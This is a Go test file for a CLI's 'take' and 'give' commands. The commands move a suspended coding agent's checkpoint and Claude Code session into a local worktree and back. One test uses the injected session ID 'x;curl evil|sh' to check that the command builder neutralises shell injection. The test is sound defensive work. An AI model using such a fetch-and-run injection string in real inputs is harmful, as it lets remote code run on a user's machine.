package taskcmd_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/omoi-dev/omoi/api/client"
	"github.com/omoi-dev/omoi/internal/checkpoint"
	"github.com/omoi-dev/omoi/internal/cli/exit"
	"github.com/omoi-dev/omoi/internal/task"
)

// checkpointIn adds a checkpoint to a repository, on top of the task's branch, and returns it.
func checkpointIn(t *testing.T, repo string, files map[string]string) client.Checkpoint {
	t.Helper()
	work := filepath.Join(t.TempDir(), "work")
	git(t, repo, "worktree", "add", "--quiet", "--detach", work, "feature/x")
	for name, content := range files {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(work, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(work, name), []byte(content), 0o600))
	}
	git(t, work, "add", "-A")
	tree := git(t, work, "write-tree")
	git(t, work, "rm", "-q", "-r", "--cached", ".")
	git(t, work, "read-tree", "--prefix=work/", tree)
	commit := git(t, work, "commit-tree", git(t, work, "write-tree"), "-p", "HEAD", "-m", "checkpoint")
	git(t, repo, "worktree", "remove", "--force", work)
	return client.Checkpoint{ID: "1.4", Attempt: 1, Number: 4, SandboxID: "box", Sealed: checkpoint.Sealed{
		Commit: commit, Head: git(t, repo, "rev-parse", "feature/x"), HeadRef: "refs/heads/feature/x", RunID: "run-1", TakenAt: time.Now(),
		LeftOut: []string{"The checkpoint lacks \"big\": it is too large"},
	}}
}

const sandboxSession = `{"type":"user","parentUuid":null,"cwd":"/workspace","text":"in /workspace/a.txt"}
`

// taking is a suspended task of Claude Code with a checkpoint, and the home of a user.
func taking(t *testing.T) (f *fakeAPI, repo string, c call) {
	t.Helper()
	f, repo = hosted(t, task.StatusPending)
	at := checkpointIn(t, repo, map[string]string{
		"a.txt": "a\r\n", "package.json": "{}", ".claude/settings.json": "{}", "docs/.MCP.json": "{}", "Makefile": "all:\n", "x/.husky/pre-commit": "",
	})
	at.Transcript = int64(len(sandboxSession))
	f.checkpoints = []client.Checkpoint{at}
	f.tasks[0].Agent, f.tasks[0].Blocked = task.AgentClaude, task.BlockedSuspended
	f.tasks[0].Attempts = []client.Attempt{{Number: 1, SandboxID: "box", EndedAt: &at.TakenAt, Salvage: &task.Salvage{}}}
	f.transcripts = []client.TranscriptInfo{{RunID: "run-1", SessionID: "s-1", Attempt: 1}}
	f.texts = map[string]string{
		"run-1":        sandboxSession + `{"type":"user","text":"newer than the files"}` + "\n",
		"run-1.beside": `{"path":"tool-results/x.txt","first":true,"text":"see /workspace/b"}` + "\n",
	}
	return f, repo, call{dir: repo, env: map[string]string{"HOME": t.TempDir()}}
}

func TestTake_FilesAndSessionInANewWorktree(t *testing.T) {
	t.Parallel()
	f, repo, c := taking(t)
	folder := filepath.Join(t.TempDir(), "my work")
	got := f.with(c, "take", "-", folder)
	require.Zero(t, got.code, got.err)
	require.Empty(t, f.asked, "the task is suspended already")
	content, err := os.ReadFile(filepath.Join(folder, "a.txt"))
	require.NoError(t, err)
	require.Equal(t, "a\r\n", string(content))
	require.Equal(t, "take/456789ab-1.4", git(t, folder, "branch", "--show-current"))
	require.Equal(t, git(t, repo, "rev-parse", "feature/x"), git(t, folder, "rev-parse", "HEAD"))
	require.Equal(t, "main", git(t, repo, "branch", "--show-current"))

	name := strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' {
			return r
		}
		return '-'
	}, folder)
	project := filepath.Join(c.env["HOME"], ".claude", "projects", name)
	session, err := os.ReadFile(filepath.Join(project, "s-1.jsonl"))
	require.NoError(t, err)
	require.Equal(t, strings.ReplaceAll(sandboxSession, "/workspace", folder), string(session), "cut, with the paths of this machine")
	beside, err := os.ReadFile(filepath.Join(project, "s-1", "tool-results", "x.txt"))
	require.NoError(t, err)
	require.Equal(t, "see "+folder+"/b", string(beside))

	require.Contains(t, got.out, "cd '"+folder+"' && claude --resume s-1")
	require.Contains(t, got.out, `lacks "big"`)
	_, listed, _ := strings.Cut(got.out, "Read them first:\n")
	listed, _, _ = strings.Cut(listed, "Next:")
	require.Equal(t, []string{".claude/settings.json", "docs/.MCP.json", "package.json", "x/.husky/pre-commit"}, strings.Fields(listed))

	require.NotContains(t, git(t, folder, "status", "--porcelain", "--untracked-files"), "taken.json")
	kept, err := os.ReadFile(filepath.Join(git(t, folder, "rev-parse", "--absolute-git-dir"), "omoi", "taken.json"))
	require.NoError(t, err)
	var taken map[string]any
	require.NoError(t, json.Unmarshal(kept, &taken))
	require.Equal(t, []any{idA, "1.4", 1.0, "s-1"}, []any{taken["task_id"], taken["checkpoint"], taken["attempt"], taken["session"]})
}

func TestTake_WithoutASession(t *testing.T) {
	t.Parallel()
	f, repo, c := taking(t)
	f.tasks[0].Status, f.tasks[0].Agent = task.StatusFailed, "codex"
	got := f.with(c, "take", "-")
	require.Zero(t, got.code, got.err)
	require.Contains(t, got.out, "No session: only sessions of the agent claude can be taken, and the agent is codex.")
	require.Contains(t, got.out, repo+"-456789ab")
	require.NotContains(t, got.out, "claude --resume")
	require.NoDirExists(t, filepath.Join(c.env["HOME"], ".claude"))

	f.tasks[0].Agent, f.transcripts = task.AgentClaude, nil
	got = f.with(c, "take", "-", "../again")
	require.Zero(t, got.code, got.err)
	require.Contains(t, got.out, "No session: its transcript is not stored.")
	require.Equal(t, "take/456789ab-1.4-2", git(t, filepath.Join(repo, "..", "again"), "branch", "--show-current"))
}

func TestTake_ASessionIDIsNoCommand(t *testing.T) {
	t.Parallel()
	for _, id := range []string{"x;curl evil|sh", "-p", "..", "a\n", "", strings.Repeat("a", 256)} {
		f, _, c := taking(t)
		f.transcripts[0].SessionID = id
		got := f.with(c, "take", "-", "--json")
		require.Zero(t, got.code, got.err)
		var took map[string]any
		require.NoError(t, json.Unmarshal([]byte(got.out), &took))
		require.Equal(t, []any{"", "cd " + took["folder"].(string)}, []any{took["session_id"], took["command"]}, id)
		got = f.with(c, "take", "-", "../again")
		require.Contains(t, got.out, "No session: its ")
		require.NoDirExists(t, filepath.Join(c.env["HOME"], ".claude"))
	}
}

func TestTake_ListsFilesThatProgramsRun(t *testing.T) {
	t.Parallel()
	named := []string{
		".cursor/mcp.json", ".lefthook.yml", ".mise.toml", ".npmrc", ".yarnrc.yml", ".zed/tasks.json", "My.Code-Workspace", "lefthook.yaml", "sub/mise.toml",
	}
	for set, more := range map[string][]string{"": nil, ".": {"README", "work.txt"}, "./ci/hooks": {"ci/hooks/pre-commit"}} {
		f, repo, c := taking(t)
		files := map[string]string{"README": "", "ci/hooks/pre-commit": "", "src/main.go": ""}
		for _, name := range named {
			files[name] = ""
		}
		f.checkpoints[0] = checkpointIn(t, repo, files)
		if set != "" {
			git(t, repo, "config", "core.hooksPath", set)
		}
		got := f.with(c, "take", "-", "--json")
		require.Zero(t, got.code, got.err)
		var took struct {
			Files []string `json:"runnable_files"`
		}
		require.NoError(t, json.Unmarshal([]byte(got.out), &took))
		require.ElementsMatch(t, slices.Concat(named, more), took.Files, set)
	}
}

func TestTake_OfARewoundTaskBeginsWhereItContinues(t *testing.T) {
	t.Parallel()
	f, _, c := taking(t)
	newer := f.checkpoints[0]
	newer.ID, newer.Number = "1.5", 5
	f.checkpoints = []client.Checkpoint{newer, f.checkpoints[0]}
	rewound := f.tasks[0].Attempts[0]
	rewound.Number, rewound.Kind, rewound.RestoredFrom = 2, "rewound", "1.4"
	f.tasks[0].Attempts = append(f.tasks[0].Attempts, rewound)
	got := f.with(c, "take", "-", "--json")
	require.Zero(t, got.code, got.err)
	var took map[string]any
	require.NoError(t, json.Unmarshal([]byte(got.out), &took))
	require.Equal(t, "1.4", took["checkpoint"])
}

func TestTake_Refusals(t *testing.T) {
	t.Parallel()
	f, repo, c := taking(t)
	require.Equal(t, exit.Usage, f.with(c, "take").code)
	require.Contains(t, f.with(c, "take", "-", repo).err, "Cannot create the worktree "+repo)
	require.Empty(t, git(t, repo, "branch", "--list", "take/*"), "nothing is left of it")
	require.Contains(t, f.with(c, "give").err, "is not in a worktree that omoi take created")
	f.checkpoints[0].Commit = strings.Repeat("0", 40)
	require.NotZero(t, f.with(c, "take", "-").code)
	require.NoDirExists(t, repo+"-456789ab")
	f.checkpoints = nil
	require.Contains(t, f.with(c, "take", "-").err, "left no checkpoint to take. Next: omoi checkout")
	f.tasks[0].Blocked = task.BlockedPaused
	got := f.with(c, "take", "-")
	require.Contains(t, got.err, "was not suspended: it is pending")
	require.Equal(t, []string{"suspend " + idA + " taken by a user"}, f.asked)
}

// A pack with one blob of 2 GiB, as its header says, is not given to Git.
func TestTake_APackThatInflatesTooMuch(t *testing.T) {
	t.Parallel()
	f, repo, c := taking(t)
	f.pack = []byte("PACK\x00\x00\x00\x02\x00\x00\x00\x01\xb0\x80\x80\x80\x40")
	f.checkpoints[0].Commit, f.checkpoints[0].PackBytes = strings.Repeat("1", 40), int64(len(f.pack))
	for _, args := range [][]string{{"take", "-"}, {"diff", "-", "--from", "1.4"}, {"checkout", "-", "--at", "1.4"}} {
		got := f.with(c, args...)
		require.NotZero(t, got.code, args)
		require.Contains(t, got.err, "Cannot read checkpoint 1.4: object 1: the pack inflates beyond the limits. Next: choose another one from omoi checkpoints", args)
	}
	require.NoDirExists(t, repo+"-456789ab")
}

func TestGive_FromACloneOfATaskThatWasRewoundOntoANewBranch(t *testing.T) {
	t.Parallel()
	f, repo, c := taking(t)
	git(t, repo, "update-ref", "refs/heads/earlier", git(t, repo, "commit-tree", "feature/x^{tree}", "-p", "feature/x", "-m", "Rewound"))
	f.tasks[0].Earlier = []string{"earlier"}
	c.dir = filepath.Join(t.TempDir(), "clone")
	git(t, "", "clone", "--quiet", repo, c.dir)
	folder := filepath.Join(t.TempDir(), "tree")
	took := f.with(c, "take", "-", folder)
	require.Zero(t, took.code, took.err)
	c.dir = folder
	got := f.with(c, "give")
	require.Zero(t, got.code, got.err)
	require.Equal(t, []string{"1.5 asked for on the command line"}, f.asked)
}

func TestGive_SaysWhatItLeavesOutAndThatItWasDone(t *testing.T) {
	t.Parallel()
	f, _, c := taking(t)
	folder := filepath.Join(t.TempDir(), "tree")
	took := f.with(c, "take", "-", folder)
	require.Zero(t, took.code, took.err)
	c.dir = folder
	require.NoError(t, os.WriteFile(filepath.Join(c.dir, "large"), make([]byte, 33<<20), 0o600))
	got := f.with(c, "give")
	require.Zero(t, got.code, got.err)
	require.Contains(t, got.err, "large")
	f.tasks[0].Attempts = append(f.tasks[0].Attempts, client.Attempt{Number: 2, Kind: "rewound", RestoredFrom: "1.5"})
	again := f.with(c, "give") // the answer was lost
	require.NotZero(t, again.code)
	require.Contains(t, again.err, "The work was given: attempt 2 of task 456789ab begins with checkpoint 1.5. Next: omoi show 456789ab")
}

func TestGive_OfATaskThatContinued(t *testing.T) {
	t.Parallel()
	f, _, c := taking(t)
	folder := filepath.Join(t.TempDir(), "tree")
	require.Zero(t, f.with(c, "take", "-", folder).code)
	c.dir = folder
	f.tasks = append(f.tasks, aTask(idB, task.StatusRunning))
	other := f.with(c, "give", idB)
	require.Equal(t, exit.Usage, other.code)
	require.Contains(t, other.err, "is of task 456789ab")
	f.tasks[0].Attempts = append(f.tasks[0].Attempts, client.Attempt{Number: 2})
	late := f.with(c, "give", "--json")
	require.NotZero(t, late.code)
	require.Contains(t, late.err, "Task 456789ab has continued since omoi take. Next: omoi take 456789ab ")
	require.Contains(t, late.err, string(task.KindContinued))
}
